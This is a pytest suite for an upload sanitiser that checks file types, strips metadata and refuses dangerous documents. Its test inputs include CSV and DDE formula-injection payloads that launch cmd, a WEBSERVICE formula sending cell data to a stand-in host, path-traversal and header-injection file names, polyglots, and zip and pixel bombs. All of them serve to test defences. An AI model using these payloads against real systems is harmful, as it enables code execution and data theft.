"""What a file says by name and content, and what must not be in it."""

import io
import time
import tracemalloc
import unicodedata
import zipfile
from contextlib import suppress

import openpyxl
import pytest
from hypothesis import given
from hypothesis import settings as hypothesis_settings
from hypothesis import strategies as st
from PIL import Image

from network_portal.common.files import KINDS, FileRefused, clean_file
from network_portal.common.files.names import LONGEST_NAME, plain_name
from tests import sent_files

EACH = sent_files.each_kind()


def refusal(content: bytes, name: str) -> str:
    with pytest.raises(FileRefused) as refused:
        clean_file(content, name)
    assert str(refused.value)
    return refused.value.code


@pytest.mark.parametrize("code", sorted(EACH))
def test_each_kind_is_taken_and_known(code):
    taken = clean_file(EACH[code], f"Informe de 2026.{code}")
    assert (taken.kind.code, taken.name) == (code, f"Informe de 2026.{code}")
    assert taken.size == len(taken.content) > 0 and len(taken.sha256) == 64


def test_all_kinds_are_tried():
    assert set(EACH) == set(KINDS)


@pytest.mark.parametrize("code", sorted(EACH))
@pytest.mark.parametrize("said", sorted(EACH))
def test_a_lying_extension_is_refused(code, said):
    if code != said:
        assert refusal(EACH[code], f"a.{said}") == "upload_not_what_it_says"


@pytest.mark.parametrize(
    "name", ["a.svg", "a.html", "a.exe", "a.docm", "a.zip", "a.xls", "a.pdf.exe", "a", "", ".pdf/"]
)
def test_other_kinds_are_refused_whatever_they_hold(name):
    assert refusal(EACH["pdf"], name) == "upload_kind_unknown"


@pytest.mark.parametrize("code", sorted(set(EACH)))
@pytest.mark.parametrize(
    "content", [b"<html><script>alert(1)</script>", b"  <!DOCTYPE html>", b"<svg xmlns='x'/>", b"MZ\x90\0" + b"\0" * 99]
)
def test_pages_and_programs_hide_under_no_name(code, content):
    assert refusal(content, f"a.{code}") in ("upload_not_what_it_says", "upload_text_unreadable")


def test_nothing_and_too_much(settings):
    assert refusal(b"", "a.pdf") == "upload_empty"
    most = settings.UPLOAD_MAX_BYTES
    assert most == 25 * 1024 * 1024
    assert clean_file(b"a;b\n" * (most // 4), "a.csv").size == most
    assert refusal(b"a;b\n" * (most // 4) + b"a", "a.csv") == "upload_too_large"


# --- Pictures ---------------------------------------------------------------------------------------


def test_a_phones_picture_loses_its_place_and_keeps_its_sense():
    sent = sent_files.phone_picture()
    before = Image.open(io.BytesIO(sent))
    assert before.getexif().get_ifd(0x8825) and before.info["comment"]
    after = Image.open(io.BytesIO(clean_file(sent, "a.jpg").content))
    assert not after.getexif() and not after.getexif().get_ifd(0x8825)
    assert "comment" not in after.info and b"EXAMPLE" not in clean_file(sent, "a.jpg").content
    assert after.size == (20, 40) and after.getpixel((19, 0))[0] > after.getpixel((0, 39))[0]


@pytest.mark.parametrize("code", ["png", "jpeg", "webp"])
def test_what_hides_behind_or_beside_the_picture_is_gone(code):
    exif = Image.Exif()
    exif[0x013B] = "Ana EXAMPLE"
    sent = sent_files.picture(code, exif=exif) + sent_files.zipped({"secret.txt": "x"})
    assert b"Ana EXAMPLE" in sent and zipfile.is_zipfile(io.BytesIO(sent))
    after = clean_file(sent, f"a.{code}").content
    assert b"Ana EXAMPLE" not in after and not zipfile.is_zipfile(io.BytesIO(after))


@pytest.mark.parametrize("mode", ["1", "L", "LA", "P", "RGB", "RGBA", "I;16"])
def test_each_way_of_points_survives_in_png(mode):
    after = Image.open(io.BytesIO(clean_file(sent_files.picture("png", mode=mode), "a.png").content))
    assert after.size == (40, 20)


def test_a_printers_colours_become_a_screens():
    after = Image.open(io.BytesIO(clean_file(sent_files.picture("jpeg", mode="CMYK"), "a.jpeg").content))
    assert after.mode == "RGB"


def test_a_picture_that_bursts_is_refused_before_it_does():
    sent = sent_files.picture("png", size=(9_000, 6_000), mode="1")
    assert len(sent) < 100_000
    tracemalloc.start()
    assert refusal(sent, "a.png") == "upload_too_many_pixels"
    assert tracemalloc.get_traced_memory()[1] < 5_000_000
    tracemalloc.stop()
    huge = sent_files.picture("png", size=(20_000, 20_000), mode="1")
    assert refusal(huge, "a.png") == "upload_too_many_pixels"


def test_a_moving_picture_is_refused():
    frames = [Image.new("RGB", (8, 8), colour) for colour in ("red", "blue")]
    out = io.BytesIO()
    frames[0].save(out, "WEBP", save_all=True, append_images=frames[1:])
    assert refusal(out.getvalue(), "a.webp") == "upload_moves"


@pytest.mark.parametrize("code", ["png", "jpeg", "webp", "pdf", "docx", "xlsx", "odt"])
@pytest.mark.parametrize("part", [0.3, 0.6, 0.9])
def test_half_a_file_is_refused(code, part):
    whole = sent_files.picture(code, size=(300, 300)) if code in ("png", "jpeg", "webp") else EACH[code]
    assert refusal(whole[: int(len(whole) * part)], f"a.{code}") in ("upload_broken", "upload_not_what_it_says")


BROKEN_TAGS = [
    b"",
    b"II*\0",
    b"MM\0*",
    b"II*\0\x08\0\0",
    b"II*\0\x08\0\0\0\xff\xff",
    b"MM\0*\0\0\0\x08\0\x01\x01\x12\0\x03",
]


@pytest.mark.parametrize("after", [False, True])
@pytest.mark.parametrize(
    "kind", [b"eXIf", b"iCCP", b"gAMA", b"cHRM", b"sRGB", b"pHYs", b"tRNS", b"acTL", b"tEXt", b"zTXt"]
)
def test_what_a_picture_tells_of_itself_may_be_broken(kind, after):
    for data in (*BROKEN_TAGS, b"\0", b"x\0\0"):
        with suppress(FileRefused):  # and nothing else
            clean_file(sent_files.png_with(kind, data, after=after), "a.png")


@pytest.mark.parametrize(
    "content", [sent_files.png_with(b"eXIf", b"II*\0"), sent_files.png_with(b"iCCP", b"", after=True)]
)
def test_a_picture_whose_tags_cannot_be_read_is_refused(content):
    assert refusal(content, "a.png") == "upload_broken"


@given(st.sampled_from([b"II*\0", b"MM\0*"]), st.lists(st.sampled_from([0, 1, 4, 8, 0x12, 255]), max_size=40))
@hypothesis_settings(max_examples=150, deadline=None)
@pytest.mark.filterwarnings("ignore::UserWarning")
def test_whatever_a_camera_tells_is_taken_or_refused(begin, tags):
    for content, name in (
        (sent_files.jpeg_with(begin + bytes(tags)), "a.jpg"),
        (sent_files.png_with(b"eXIf", begin + bytes(tags)), "a.png"),
    ):
        with suppress(FileRefused):  # and nothing else
            clean_file(content, name)


@given(
    st.sampled_from(["png", "jpeg", "webp"]),
    st.lists(st.tuples(st.integers(4, 700), st.integers(0, 255)), min_size=1, max_size=4),
    st.integers(20, 2_000),
)
@hypothesis_settings(max_examples=200, deadline=None)
@pytest.mark.filterwarnings("ignore::UserWarning")
def test_whatever_happens_to_a_picture_it_is_taken_or_refused(code, changes, end):
    exif = Image.Exif()
    exif[0x0112], exif[0x013B] = 6, "Ana EXAMPLE"
    content = bytearray(sent_files.picture(code, exif=exif))
    for place, byte in changes:
        content[place % len(content)] = byte
    mutated = bytes(content[:end])
    with suppress(FileRefused):  # and nothing else
        clean_file(sent_files.png_repaired(mutated) if code == "png" else mutated, f"a.{code}")


@given(st.binary(min_size=1, max_size=400), st.sampled_from(sorted(EACH)), st.integers(0, 3_000))
@hypothesis_settings(max_examples=150, deadline=None)
def test_whatever_comes_is_taken_or_refused(noise, code, where):
    content = EACH[code]
    where = where % len(content)
    with suppress(FileRefused):  # and nothing else
        clean_file(content[:where] + noise + content[where + len(noise) :], f"a.{code}")


# --- Documents ----------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("a.docx", sent_files.office("docx", author="Ana EXAMPLE")),
        ("a.pptx", sent_files.office("pptx", author="Ana EXAMPLE")),
        ("a.xlsx", sent_files.workbook("Ana EXAMPLE")),
        ("a.odt", sent_files.open_document("odt", author="Ana EXAMPLE")),
        ("a.pdf", sent_files.pdf("Ana EXAMPLE")),
        ("a.docx", sent_files.office(further={"word/comments.xml": '<c xmlns:w="w" w:author="Ana EXAMPLE"/>'})),
        (
            "a.docx",
            sent_files.office(further={"word/embeddings/sheet.xlsx": sent_files.workbook("Ana EXAMPLE")}),
        ),
    ],
)
def test_whom_a_document_names_is_told(name, content):
    assert clean_file(content, name).authors == ("Ana EXAMPLE",)


def test_the_workbook_stays_as_it_was():
    taken = clean_file(EACH["xlsx"], "a.xlsx")
    assert openpyxl.load_workbook(io.BytesIO(taken.content)).active["A1"].value == "EXAMPLE"


RELS = (
    '<Relationships><Relationship Type="http://x/{kind}" Target="https://e.example/" TargetMode="External"/>'
    "</Relationships>"
)


def with_field(*pieces: str) -> bytes:
    runs = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    return sent_files.office(further={"word/footer1.xml": f'<w:p xmlns:w="urn:w"><w:fldChar/>{runs}<w:fldChar/></w:p>'})


def with_relation(kind: str, mode: str = "External") -> bytes:
    relation = RELS.format(kind=kind).replace("External", mode)
    return sent_files.office(further={"word/_rels/document.xml.rels": relation})


def with_content(words: str) -> bytes:
    return sent_files.open_document(further={"content.xml": f'<a xmlns:d="urn:d" xmlns:x="urn:x">{words}</a>'})


@pytest.mark.parametrize(
    ("content", "name", "code"),
    [
        (sent_files.office(further={"word/vbaProject.bin": b"x"}), "a.docx", "upload_runs_programs"),
        (sent_files.office(types='<D ContentType="x.macroEnabled.main+xml"/>'), "a.docx", "upload_runs_programs"),
        (sent_files.office(further={"word/activeX/activeX1.xml": "<a/>"}), "a.docx", "upload_runs_programs"),
        (
            sent_files.office(further={"word/_rels/settings.xml.rels": RELS.format(kind="attachedTemplate")}),
            "a.docx",
            "upload_runs_programs",
        ),
        (sent_files.open_document(further={"Basic/Standard/Module1.xml": "<m/>"}), "a.odt", "upload_runs_programs"),
        (sent_files.office(further={"word/embeddings/o.bin": b"\xd0\xcf\x11\xe0"}), "a.docx", "upload_carries_files"),
        (
            sent_files.office(further={"word/media/a.zip": sent_files.zipped({"a": "b"})}),
            "a.docx",
            "upload_carries_files",
        ),
        (
            sent_files.office(
                further={
                    "word/embeddings/a.docx": sent_files.office(
                        further={"word/embeddings/b.xlsx": sent_files.workbook()}
                    )
                }
            ),
            "a.docx",
            "upload_carries_files",
        ),
        (
            sent_files.office(further={"docProps/core.xml": "<!DOCTYPE a [<!ENTITY b 'c'>]><a/>"}),
            "a.docx",
            "upload_broken",
        ),
        (b"\xd0\xcf\x11\xe0" + b"\0" * 600, "a.xlsx", "upload_protected"),
        (
            sent_files.open_document(further={"META-INF/manifest.xml": "<m><encryption-data/></m>"}),
            "a.odt",
            "upload_protected",
        ),
        (with_relation("attachedTemplate", "external"), "a.docx", "upload_runs_programs"),
        (with_relation("image"), "a.docx", "upload_reaches_out"),
        (with_relation("image", "EXTERNAL"), "a.docx", "upload_reaches_out"),
        (with_relation("aFChunk"), "a.docx", "upload_reaches_out"),
        (with_field("DDEAUTO c:\\\\cmd.exe"), "a.docx", "upload_runs_programs"),
        (with_field(" d", "deau", "to c:\\\\cmd.exe"), "a.docx", "upload_runs_programs"),
        (with_field("QUOTE 68 68 69"), "a.docx", "upload_runs_programs"),
        (with_field('INCLUDEPICTURE "https://e.example/a.png"'), "a.docx", "upload_reaches_out"),
        (
            sent_files.office(further={"word/a.xml": '<w:fldSimple xmlns:w="urn:w" w:instr="DDE cmd"/>'}),
            "a.docx",
            "upload_runs_programs",
        ),
        (
            sent_files.office(further={"xl/externalLinks/externalLink1.xml": '<a><ddeLink ddeService="cmd"/></a>'}),
            "a.docx",
            "upload_runs_programs",
        ),
        (with_content("<d:dde-source/>"), "a.odt", "upload_runs_programs"),
        (with_content('<d:e x:href="vnd.sun.star.script:a"/>'), "a.odt", "upload_runs_programs"),
        (with_content('<d:image x:href="https://e.example/a.png"/>'), "a.odt", "upload_reaches_out"),
        *(
            (sent_files.office(further={f"word/embeddings/a.{ending}": "x"}), "a.docx", "upload_carries_files")
            for ending in ("exe", "HTA", "js", "vbs", "lnk")
        ),
        (sent_files.office(further={"word/media/image1.png": b"MZ\x90\0"}), "a.docx", "upload_carries_files"),
        (b"a,b\n\0\1\2,c\n", "a.csv", "upload_text_unreadable"),
    ],
)
def test_what_may_do_harm_is_refused(content, name, code):
    assert refusal(content, name) == code


def test_a_link_and_a_table_in_a_chart_are_no_harm():
    hyperlink = {"word/_rels/document.xml.rels": RELS.format(kind="hyperlink")}
    chart = {"word/embeddings/sheet.xlsx": sent_files.workbook()}
    assert clean_file(sent_files.office(further=hyperlink | chart), "a.docx").kind.code == "docx"
    for content in (with_relation("xlExternalLinkPath/xlPathMissing"), with_relation("image", "Internal")):
        assert clean_file(content, "a.docx").kind.code == "docx"
    for field in ('HYPERLINK "https://e.example/"', "PAGE", "TOC \\o", "QUOTE words", "DDELINKED"):
        assert clean_file(with_field(field), "a.docx").kind.code == "docx"
    image = '<d:image x:href="Pictures/1.png"/><d:a x:href="https://e.example/">DDEAUTO </d:a>'
    assert clean_file(with_content(image), "a.odt").kind.code == "odt"


@pytest.mark.parametrize("sign", [chr(code) for code in range(256)])
def test_a_table_of_text_has_no_control_characters_but_those_that_cut_it(sign):
    content = f"a,b\n{sign},c\n".encode()
    if unicodedata.category(sign) == "Cc" and sign not in "\t\r\n\f":
        assert refusal(content, "a.csv") == "upload_text_unreadable"
    else:
        kept = f"a,b\n'{sign},c\n".encode() if sign in "=+-@" else content
        assert clean_file(content, "a.csv").content == kept


def test_a_table_as_large_as_an_upload_may_be_is_looked_through_at_once(settings):
    """Sign after sign it would hold a whole worker for ten seconds; a quiet machine needs a fifth of one."""
    content = "EXAMPLE,año\n".encode() * (settings.UPLOAD_MAX_BYTES // 13)
    begun = time.process_time()
    clean_file(content, "a.csv")
    assert time.process_time() - begun < 2


@pytest.mark.parametrize("code", ["docx", "xlsx", "odt", "pdf", "csv"])
def test_a_document_is_nothing_else_at_the_same_time(code):
    other = sent_files.zipped({"payload.html": "<script>"})
    assert refusal(EACH[code] + other, f"a.{code}") in (
        "upload_broken",
        "upload_not_what_it_says",
        "upload_text_unreadable",
    )
    if code != "pdf":
        assert refusal(b"%PDF-1.7\n" + EACH[code], f"a.{code}") == "upload_not_what_it_says"


def test_a_bomb_is_refused_before_it_bursts():
    bomb = sent_files.office(further={"word/media/image1.png": b"\0" * 60_000_000})
    assert len(bomb) < 100_000
    tracemalloc.start()
    assert refusal(bomb, "a.docx") == "upload_unpacks_too_large"
    assert tracemalloc.get_traced_memory()[1] < 5_000_000
    tracemalloc.stop()


def test_a_crowd_of_members_is_refused():
    assert refusal(sent_files.office(further={f"word/{n}": "" for n in range(5_001)}), "a.docx") == (
        "upload_unpacks_too_large"
    )


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16", "cp1252"])
def test_a_table_is_text_as_spreadsheets_write_it(encoding):
    assert clean_file("código;país\nB1.1;Perú\n".encode(encoding), "a.csv").kind.code == "csv"


@pytest.mark.parametrize("first", ["ID,name", "id;nombre", "From,to", "BM,x", "#n,b", '"a","b"'])
def test_a_heading_is_not_taken_for_another_kind(first):
    assert clean_file(f"{first}\n1,2\n".encode(), "a.csv").kind.code == "csv"


# --- Names --------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("given", "plain"),
    [
        ("../../etc/passwd.pdf", "passwd.pdf"),
        ("C:\\Users\\Ana\\informe.pdf", "informe.pdf"),
        ("Año nuevo – índice.pdf", "Año nuevo – índice.pdf"),
        ("evil\u202efdp.exe", "evilfdp.exe"),
        ("a\r\nSet-Cookie: x.pdf", "a Set-Cookie_ x.pdf"),
        ("a\0b\u200b\ufeffc.pdf", "a bc.pdf"),
        ('"quoted" <b>.pdf', "_quoted_ _b_.pdf"),
        ("...pdf", "file.pdf"),
        (".pdf", "file.pdf"),
        ("a" * 500 + ".pdf", "a" * (LONGEST_NAME - 4) + ".pdf"),
    ],
)
def test_a_name_is_made_plain(given, plain):
    assert plain_name(given) == plain


@given(st.text(max_size=300))
def test_a_plain_name_stays_plain(given):
    plain = plain_name(given)
    assert 0 < len(plain) <= LONGEST_NAME and plain_name(plain) == plain
    assert not set('/\\\r\n\0"<>\u202e') & set(plain)


@pytest.mark.parametrize(
    ("sent", "kept"),
    [
        ("=cmd|'/c calc'!A0,1", "'=cmd|'/c calc'!A0,1"),
        ('a;"=HYPERLINK(""x"")"', 'a;"\'=HYPERLINK(""x"")"'),
        ("a,@SUM(1)\tb\r\n+a;-b", "a,'@SUM(1)\tb\r\n'+a;'-b"),
        ('"uno;=1+2|x",a', '"uno;\'=1+2|x",a'),
        ("-1,2+cmd|'/c calc'!A0", "'-1,2+cmd|'/c calc'!A0"),
        ("\"-1\n&cmd|'/c calc'!A0\"", "\"'-1\n&cmd|'/c calc'!A0\""),
        ("\"-1\"&cmd|'/c calc'!A0", "\"'-1\"&cmd|'/c calc'!A0"),
        ("a,\t=1+1", "a,\t'=1+1"),
        ("＝1+1", "'＝1+1"),
        *((same, same) for same in ("-1,5;+2.5;-3", "Lima (Perú),-5", "a=b,c-d,e@f", '"-7",x', '"-1,5";"+2"', "'a'")),
    ],
)
@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16"])
def test_cells_that_a_spreadsheet_would_run_are_neutralised_and_numbers_stay(sent, kept, encoding):
    assert clean_file(sent.encode(encoding), "a.csv").content == kept.encode(encoding)


def with_sheet(words: str, name="xl/worksheets/sheet9.xml") -> bytes:
    return sent_files.office(further={name: f'<a xmlns:x="urn:x">{words}</a>'})


@pytest.mark.parametrize(
    ("formula", "code"),
    [
        ("_xlfn.WEBSERVICE(&quot;http://e.example/&quot;&amp;B1)", "upload_reaches_out"),
        ("1+_xlfn.image(A1)", "upload_reaches_out"),
        ("WEB&#83;ERVICE (A1)", "upload_reaches_out"),
        ("'a\"b'!A1&amp;WEBSERVICE(A1)&amp;'a\"b'!A1", "upload_reaches_out"),
        ("cmd|'/c calc'!A0", "upload_runs_programs"),
        ("'cmd'|'/c calc'!A0", "upload_runs_programs"),
        ("RTD(&quot;a.b&quot;,,1)", "upload_runs_programs"),
        ("CALL(&quot;a&quot;)", "upload_runs_programs"),
    ],
)
def test_a_formula_that_starts_programs_or_reaches_out_is_refused(formula, code):
    for element in ("f", "x:f", "formula1", "definedName"):
        assert refusal(with_sheet(f"<{element}>{formula}</{element}>"), "a.docx") == code
    assert refusal(with_sheet(f"<f>{formula}</f>", "elsewhere/s.xml"), "a.docx") == code
    quoted = formula.replace('"', "&quot;")
    for name in ("content.xml", "Object 1/content.xml"):
        table = f'<a xmlns:t="urn:t"><t:cell t:formula="of:={quoted}"/></a>'
        assert refusal(sent_files.open_document("ods", further={name: table}), "a.ods") == code


def test_what_else_brings_in_from_elsewhere_is_refused():
    assert refusal(with_sheet('<connection id="1" type="4"><webPr url="u"/></connection>'), "a.docx") == (
        "upload_reaches_out"
    )
    for kind, code in (("connections", "upload_reaches_out"), ("aFChunk", "upload_carries_files")):
        assert refusal(with_relation(kind, "Internal"), "a.docx") == code
        relation = RELS.format(kind=kind).replace(' TargetMode="External"', "")
        assert refusal(sent_files.office(further={"word/_rels/document.xml.rels": relation}), "a.docx") == code
    assert refusal(with_content('<d:cell-range-source x:href="https://e.example/"/>'), "a.odt") == "upload_reaches_out"
    assert refusal(with_content("<d:cell d:formula=\"of:=DDE('a';'b';'c')\"/>"), "a.odt") == "upload_runs_programs"


@pytest.mark.parametrize(
    "formula",
    [
        "SUM(A1:A9)*-1",
        "HYPERLINK(&quot;https://e.example/&quot;,&quot;a|b&quot;)",
        "&quot;image (2)&quot;&amp;A1",
        "'Norte | Sur'!A1",
        "Table1[a|b]",
        "IMAGES(1)+RECALL(2)",
        "IF(A1=&quot;x&quot;,{1;2},3)",
    ],
)
def test_a_formula_that_computes_is_no_harm(formula):
    assert clean_file(with_sheet(f"<f>{formula}</f>"), "a.docx").kind.code == "docx"
    table = '<a xmlns:t="urn:t"><t:cell t:formula="of:=SUM({1;2|3;4};[.A1])"/></a>'
    assert clean_file(sent_files.open_document("ods", further={"content.xml": table}), "a.ods").kind.code == "ods"


def test_a_table_of_numbers_is_looked_through_at_once():
    """However long its line: each number asks once what comes behind it."""
    for cell in ("-1,", "-1\n", "-a,"):
        begun = time.process_time()
        clean_file(cell.encode() * 300_000, "a.csv")
        assert time.process_time() - begun < 3
